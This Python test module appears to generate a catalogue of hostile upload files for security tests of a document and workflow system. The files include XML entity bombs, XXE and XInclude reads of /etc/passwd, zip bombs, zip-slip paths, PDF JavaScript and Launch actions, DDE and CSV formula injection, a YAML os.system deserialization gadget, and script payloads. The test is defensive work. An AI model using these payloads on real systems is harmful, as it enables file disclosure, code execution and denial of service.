"""Files that mean harm, made by code when they are asked for. Nothing in them does anything outside its own reader."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from tests.hostile import odd_files, vast_sheets
from tests.hostile.texts import BELL, NOWHERE
from tests.hostile.texts_as_files import form_files, yaml_files

BPMN = "http://www.omg.org/spec/BPMN/20100524/MODEL"
MIMETYPE = "[Content_Types].xml"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_RELATION = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True, slots=True)
class HostileFile:
    name: str
    content: bytes
    is_harmless_to_keep: bool = False
    """Inert as it lies: a browser that only downloads it and our own readers are not moved by it."""


def _xml(body: str, *, head: str = "") -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>{head}{body}'.encode()


def _diagram(inside: str = "", *, head: str = "", process: str = 'id="p" isExecutable="true"') -> bytes:
    return _xml(f'<definitions xmlns="{BPMN}" id="D"><process {process}>{inside}</process></definitions>', head=head)


def _entities(levels: int, width: int) -> str:
    lines = ['<!ENTITY a0 "haha">']
    lines += [f'<!ENTITY a{n} "' + f"&a{n - 1};" * width + '">' for n in range(1, levels)]
    return f"<!DOCTYPE definitions [{''.join(lines)}]>"


def _script(text: str) -> str:
    return f'<scriptTask id="s" name="s"><script>{text}</script></scriptTask>'


def _xml_files() -> dict[str, bytes]:
    tasks = "".join(f'<userTask id="t{n}" name="x"/>' for n in range(300))
    return {
        "laughs.bpmn": _diagram("&a9;", head=_entities(10, 10)),
        "quadratic.bpmn": _diagram("&a1;" * 2000, head='<!DOCTYPE d [<!ENTITY a1 "' + "x" * 100_000 + '">]>'),
        "entity.bpmn": _diagram("&e;", head='<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
        "entity_http.bpmn": _diagram("&e;", head=f'<!DOCTYPE d [<!ENTITY e SYSTEM "{NOWHERE}">]>'),
        "parameter_entity.bpmn": _diagram(head=f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{NOWHERE}">%p;]>'),
        "external_dtd.bpmn": _diagram(head=f'<!DOCTYPE d SYSTEM "{NOWHERE}d.dtd">'),
        "lower_doctype.bpmn": _diagram(head="<!doctype d>"),
        "utf16.bpmn": _diagram(head='<!DOCTYPE d [<!ENTITY e "x">]>')
        .decode()
        .replace("UTF-8", "UTF-16")
        .encode("utf-16"),
        "utf7.bpmn": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-definitions/+AD4-',
        "ebcdic.bpmn": '<?xml version="1.0" encoding="cp037"?><definitions/>'.encode("cp037"),
        "xinclude.bpmn": _diagram(
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
        ),
        "stylesheet.bpmn": _diagram(head=f'<?xml-stylesheet type="text/xsl" href="{NOWHERE}x.xsl"?>'),
        "schema.bpmn": _diagram(
            process=f'id="p" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{BPMN} {NOWHERE}"'
        ),
        "deep.bpmn": _diagram("<subProcess>" * 5000 + "</subProcess>" * 5000),
        "wide_attributes.bpmn": ("<a " + " ".join(f'x{n}="1"' for n in range(60_000)) + "/>").encode(),
        "long_attribute.bpmn": _diagram(process='id="p" name="' + "x" * 900_000 + '"'),
        "long_tag.bpmn": f"<{'a' * 900_000}/>".encode(),
        "many_namespaces.bpmn": ("<a " + " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(30_000)) + "/>").encode(),
        "many_elements.bpmn": _diagram("<task/>" * 100_000),
        "too_long.bpmn": _diagram(" " * 20_000_000),
        "comment.bpmn": _diagram(f"<!--{'-x' * 400_000}-->"),
        "cdata.bpmn": _diagram(_script(f"<![CDATA[</script><script>{BELL}=1</script>]]>")),
        "unclosed.bpmn": _diagram()[:-20],
        "two_roots.bpmn": _diagram() + _diagram(),
        "nul.bpmn": b"\0" * 1000,
        "half.bpmn": _diagram('<userTask id="t" name="').replace(b"</", b"\xff\xfe</"),
        "control.bpmn": _diagram('<userTask id="t" name="&#0;&#x1;"/>'),
        "python.bpmn": _diagram(_script("__import__('os').system('touch wenze-marker')")),
        "java.bpmn": _diagram(
            '<serviceTask id="s" name="s" implementation="##WebService" operationRef="java.lang.Runtime"/>'
        ),
        "names.bpmn": _diagram(f'<userTask id="t" name="&lt;img src=x onerror={BELL}=1&gt;"/>'),
        "bidi_names.bpmn": _diagram('<userTask id="t" name="同意\u202e驳不"/>'),
        "xpath_id.bpmn": _diagram('<userTask id="t\'] | //* | //x[\'" name="x"/>'),
        "same_ids.bpmn": _diagram('<userTask id="t" name="a"/><userTask id="t" name="b"/>'),
        "calls_itself.bpmn": _diagram('<startEvent id="b"/><callActivity id="c" name="c" calledElement="p"/>'),
        "endless.bpmn": _diagram(
            '<startEvent id="b"/><exclusiveGateway id="g"/><sequenceFlow id="f" sourceRef="b" targetRef="g"/>'
            '<sequenceFlow id="h" sourceRef="g" targetRef="g"/>'
        ),
        "cycle_timer.bpmn": _diagram(
            '<startEvent id="b"><timerEventDefinition><timeCycle>R-1/PT0S</timeCycle></timerEventDefinition></startEvent>'
        ),
        "long_timer.bpmn": _diagram(
            '<intermediateCatchEvent id="b"><timerEventDefinition><timeDuration>P99999999Y</timeDuration>'
            "</timerEventDefinition></intermediateCatchEvent>"
        ),
        "many_instances.bpmn": _diagram(
            '<userTask id="t" name="t"><multiInstanceLoopCharacteristics><loopCardinality>999999999</loopCardinality>'
            "</multiInstanceLoopCharacteristics></userTask>"
        ),
        "many_tasks.bpmn": _diagram(tasks),
        "splits.bpmn": _diagram(
            "".join(f'<parallelGateway id="g{n}"/>' for n in range(40))
            + "".join(
                f'<sequenceFlow id="f{n}{m}" sourceRef="g{n}" targetRef="g{n + 1}"/>' for n in range(39) for m in "ab"
            )
        ),
        "html.bpmn": b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
        "laughs.dmn": _xml("<definitions>&a9;</definitions>", head=_entities(10, 10)),
        "marks.dmn": _xml(
            '<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="d"><decision id="marks" name="m">'
            '<decisionTable id="t"><input id="i"><inputExpression id="e"><text>x</text></inputExpression></input>'
            '<output id="o" name="o"/><rule id="r"><inputEntry id="a"><text>' + "?" * 20_000 + "</text></inputEntry>"
            '<outputEntry id="b"><text>1</text></outputEntry></rule></decisionTable></decision></definitions>'
        ),
        "wrong.dmn": _xml(
            '<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/"><decision/></definitions>'
        ),
    }


def _zip(files: Mapping[str, bytes], *, compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def _word(more: Mapping[str, bytes] | None = None, *, document: bytes | None = None) -> dict[str, bytes]:
    body = (
        document
        or f'<w:document xmlns:w="{_WORD}"><w:body><w:p><w:r><w:t>字</w:t></w:r></w:p></w:body></w:document>'.encode()
    )
    kinds = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return {MIMETYPE: kinds.encode(), "word/document.xml": body, **(more or {})}


def _sheet(more: Mapping[str, bytes] | None = None) -> dict[str, bytes]:
    kinds = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return {MIMETYPE: kinds.encode(), "xl/workbook.xml": b"<workbook/>", **(more or {})}


def _relations(target: str, kind: str) -> bytes:
    return (
        f'<Relationships xmlns="{_RELATION}"><Relationship Id="r1" Type="{_OFFICE}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def _link() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in _word().items():
            archive.writestr(name, content)
        entry = zipfile.ZipInfo("word/link")
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def _lying() -> bytes:
    """A directory that calls 50 MB one byte."""
    content = bytearray(_zip({**_word(), "word/big.xml": b"\0" * 50_000_000}))
    place = content.rindex(b"PK\x01\x02")
    content[place + 24 : place + 28] = struct.pack("<I", 1)
    return bytes(content)


def _same_name() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in _word().items():
            archive.writestr(name, content)
        entry = zipfile.ZipInfo("word/Document.xml")
        archive.writestr(entry, b"<x/>")
        entry = zipfile.ZipInfo("word//document.xml")
        archive.writestr(entry, b"<x/>")
    return out.getvalue()


def _office_files() -> dict[str, bytes]:
    entity = f'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document xmlns:w="{_WORD}"><w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>'
    laughs = f'{_entities(10, 10)}<w:document xmlns:w="{_WORD}"><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>'
    deep = f'<w:document xmlns:w="{_WORD}">' + "<w:p>" * 5000 + "</w:p>" * 5000 + "</w:document>"
    inner = _zip({"a": b"\0" * 1_000_000})
    for _ in range(4):
        inner = _zip({f"{n}.zip": inner for n in range(10)})
    return {
        "inflates.docx": _zip({**_word(), "word/media/big.bin": b"\0" * 120_000_000}),
        "ratio.xlsx": _zip({**_sheet(), "xl/big.bin": b"\0" * 60_000_000}),
        "lying.docx": _lying(),
        "entries.docx": _zip({**_word(), **{f"word/{n}": b"" for n in range(5_000)}}, compress=zipfile.ZIP_STORED),
        "nested.docx": _zip(_word({"word/embeddings/a.zip": inner})),
        "slip.docx": _zip(_word({"../../../../tmp/wenze-marker": b"x"})),
        "slip_windows.docx": _zip(_word({"..\\..\\wenze-marker": b"x"})),
        "absolute.docx": _zip(_word({"/tmp/wenze-marker": b"x"})),
        "drive.docx": _zip(_word({"C:/wenze-marker": b"x"})),
        "link.docx": _link(),
        "same_name.docx": _same_name(),
        "macro.docx": _zip(_word({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        "macro.xlsx": _zip(_sheet({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        "macro_sheet.xlsx": _zip(_sheet({"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})),
        "dialog_sheet.xlsx": _zip(_sheet({"xl/dialogsheets/sheet1.xml": b"<dialogsheet/>"})),
        "macro_kind.docx": _zip(
            _word()
            | {
                MIMETYPE: b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
            }
        ),
        "activex.docx": _zip(_word({"word/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0"})),
        "ole.docx": _zip(_word({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0MZ"})),
        "template.docx": _zip(
            _word({"word/_rels/settings.xml.rels": _relations(f"{NOWHERE}t.dotm", "attachedTemplate")})
        ),
        "template_elsewhere.docx": _zip(
            _word({"word/_rels/x.xml.rels": _relations("//127.0.0.1/t.dotm", "attachedTemplate")})
        ),
        "remote_image.docx": _zip(_word({"word/_rels/document.xml.rels": _relations(f"{NOWHERE}i.png", "image")})),
        "remote_frame.docx": _zip(_word({"word/_rels/webSettings.xml.rels": _relations(f"{NOWHERE}f", "frame")})),
        "remote_object.docx": _zip(_word({"word/_rels/document.xml.rels": _relations(f"{NOWHERE}o", "oleObject")})),
        "remote_book.xlsx": _zip(
            _sheet({"xl/externalLinks/_rels/a.xml.rels": _relations("file:///etc/passwd", "externalLinkPath")})
        ),
        "connections.xlsx": _zip(
            _sheet(
                {
                    "xl/connections.xml": f'<connections><connection><webPr url="{NOWHERE}"/></connection></connections>'.encode()
                }
            )
        ),
        "dde.xlsx": _zip(
            _sheet(
                {
                    "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
                }
            )
        ),
        "entity.docx": _zip(_word(document=entity.encode())),
        "laughs.docx": _zip(_word(document=laughs.encode())),
        "deep.docx": _zip(_word(document=deep.encode())),
        "html_inside.docx": _zip({"index.html": b"<script>alert(1)</script>"}),
        "sheet_as.docx": _zip(_sheet()),
        "nothing.docx": _zip({}),
        "not_a_zip.docx": b"PK\x03\x04" + b"\0" * 200,
        "broken.xlsx": _zip(_sheet())[:-30],
        "old_word.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "laughs.ofd": _zip({"OFD.xml": _xml("<OFD>&a9;</OFD>", head=_entities(10, 10))}),
        "script.ofd": _zip({"OFD.xml": b"<OFD/>", "Doc_0/a.js": b"alert(1)"}),
        "no_ofd.ofd": _zip({"a.txt": b"x"}),
    }


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 2, height: int = 2, *, rows: bytes | None = None, more: bytes = b"") -> bytes:
    """A grey picture; of other measures than its rows have where `rows` are given."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    drawn = rows if rows is not None else (b"\0" + b"\x80" * width) * height
    data = _chunk(b"IHDR", head) + more + _chunk(b"IDAT", zlib.compress(drawn)) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + data


def _picture_files() -> dict[str, bytes]:
    html = f"<html><body><script>{BELL}=1</script></body></html>".encode()
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{BELL}=1'><script>{BELL}=1</script></svg>".encode()
    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return {
        "vast.png": png(50_000, 50_000, rows=b"\0" * 1000),
        "vast_rows.png": png(20_000, 20_000, rows=b"\0" * 40_000_000),
        "text_bomb.png": png(more=_chunk(b"zTXt", b"a\0\0" + zlib.compress(b"x" * 20_000_000))),
        "profile_bomb.png": png(more=_chunk(b"iCCP", b"a\0\0" + zlib.compress(b"x" * 20_000_000))),
        "zero.png": png(0, 0),
        "cut.png": png()[:40],
        "html_behind.png": png() + html,
        "zip_behind.png": png() + _zip({"a.html": html}),
        "html_comment.png": png(more=_chunk(b"tEXt", b"Comment\0" + html)),
        "html.png": html,
        "signature_html.png": b"\x89PNG\r\n\x1a\n" + html,
        "svg.png": svg,
        "drawing.svg": svg,
        "html.jpg": html,
        "signature_html.jpg": jpeg + html,
        "comment.jpg": jpeg + b"\xff\xfe" + struct.pack(">H", len(html) + 2) + html + b"\xff\xd9",
        "vast.jpg": jpeg + b"\xff\xc0\x00\x0b\x08\xff\xff\xff\xff\x01\x01\x11\x00\xff\xd9",
        "program.png": b"MZ" + b"\0" * 100,
        "program.jpg": b"\x7fELF" + b"\0" * 100,
        "gif_script.jpg": b"GIF89a/*" + html + b"*/=1;",
    }


def _pdf(catalogue: str, *, head: bytes = b"%PDF-1.7\n") -> bytes:
    return (
        head
        + f"1 0 obj<</Type/Catalog/Pages 2 0 R {catalogue}>>endobj\n".encode()
        + b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        + b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def _pdf_files() -> dict[str, bytes]:
    stream = zlib.compress(b"0 " * 25_000_000)
    bomb = b"4 0 obj<</Type/ObjStm/N 1/First 1/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n"
    return {
        "javascript.pdf": _pdf("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
        "hidden_javascript.pdf": _pdf("/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"),
        "launch.pdf": _pdf("/OpenAction<</S/Launch/F(calc.exe)>>"),
        "names.pdf": _pdf("/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>"),
        "embedded.pdf": _pdf("/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>"),
        "submits.pdf": _pdf(f"/AA<</O<</S/SubmitForm/F({NOWHERE})>>>>"),
        "streams.pdf": _pdf("") + (bomb % (len(stream), stream)),
        "many_streams.pdf": _pdf("") + b"/ObjStm stream\n" * 100_000,
        "cut.pdf": b"%PDF-",
        "loop.pdf": b"%PDF-1.7\n1 0 obj<</Type/Pages/Kids[1 0 R 1 0 R]/Count 999999999>>endobj trailer<</Root 1 0 R>>",
        "html_before.pdf": b"<html><script>alert(1)</script></html>" + _pdf(""),
        "html_behind.pdf": _pdf("") + f"<html><script>{BELL}=1</script></html>".encode(),
        "program.pdf": b"%PDF-MZ" + b"\0" * 100,
    }


def _other_files() -> dict[str, bytes]:
    return {
        "page.html": f"<script>{BELL}=1</script>".encode(),
        "page.xhtml": f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{BELL}=1</script></html>".encode(),
        "page.txt": f"<html><script>{BELL}=1</script>".encode(),
        "page.csv": f"=cmd|'/c calc'!A0,<script>{BELL}=1</script>\n".encode(),
        "quotes.csv": b'"' * 500_000,
        "long_field.csv": b"a," + b"x" * 900_000 + b"\nb",
        "columns.csv": b"," * 900_000,
        "rows.csv": b"a\n" * 400_000,
        "control.txt": b"\x1b]0;x\x07\x1b[2J",
        "program.exe": b"MZ" + b"\0" * 100,
        "script.js": b"alert(1)",
        "shell.sh": b"#!/bin/sh\ntouch wenze-marker\n",
        "class.jar": _zip({"META-INF/MANIFEST.MF": b"Main-Class: X\n"}),
        "archive.zip": _zip({"../x": b"x"}),
        "mail.eml": b"Content-Type: text/html\r\n\r\n<script>alert(1)</script>",
        "long.txt": "字".encode() * 7_000_000,
        "calendar.ics": b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nRRULE:FREQ=SECONDLY;COUNT=999999999\r\n" * 2000,
    }


def _packs() -> dict[str, bytes]:
    def pack(said: bytes, **files: bytes) -> bytes:
        return _zip({"manifest.yml": said, **files})

    return {
        "aliases.zip": pack(b"a: &a [1]\nfiles: {x: *a}\n"),
        "deep.zip": pack(b"files: " + b"[" * 50_000),
        "objects.zip": pack(b"files: !!python/object/apply:os.system [id]\n"),
        "slip.zip": pack(b"format: 1\nfiles: {}\n", **{"../../x.bpmn": b"<a/>"}),
        "inflates.zip": pack(b"format: 1\nfiles: {}\n", **{"processes/a.bpmn": b" " * 60_000_000}),
        "letters.zip": pack(b"format: 1\nfiles: {}\n", **{"letters/a.docx": _office_files()["entity.docx"]}),
    }


_MAKERS: tuple[Callable[[], dict[str, bytes]], ...] = (
    _xml_files,
    form_files,
    yaml_files,
    _office_files,
    _picture_files,
    _pdf_files,
    _other_files,
    _packs,
    lambda: odd_files.office_files(_zip, _word, _sheet),
    lambda: odd_files.picture_files(png, _chunk),
    lambda: odd_files.pdf_files(_pdf),
    lambda: odd_files.definition_files(_diagram, _xml),
    lambda: {name: _zip(parts) for name, parts in vast_sheets.parts_by_name().items()},
)
KEPT = frozenset(
    {
        # pictures are drawn anew, and what stood behind or inside them is gone
        *("html_behind.png", "zip_behind.png", "html_comment.png"),
        # plain text: served as text/plain, as a download
        *("page.txt", "page.csv", "quotes.csv", "long_field.csv", "columns.csv", "rows.csv"),
        # nothing is unpacked inside an office file; a reader that would follow entities refuses the part
        *("deep.docx", "nested.docx"),
        # the frame around a PDF runs none of these, and what is behind its end is not looked at
        *("embedded.pdf", "streams.pdf", "many_streams.pdf", "html_behind.pdf", "loop.pdf", "cut.pdf", "program.pdf"),
        *odd_files.KEPT,
        *vast_sheets.KEPT,
    }
)
"""May be kept as papers because they are inert there."""


def hostile_files() -> list[HostileFile]:
    return [HostileFile(name, content, name in KEPT) for make in _MAKERS for name, content in make().items()]
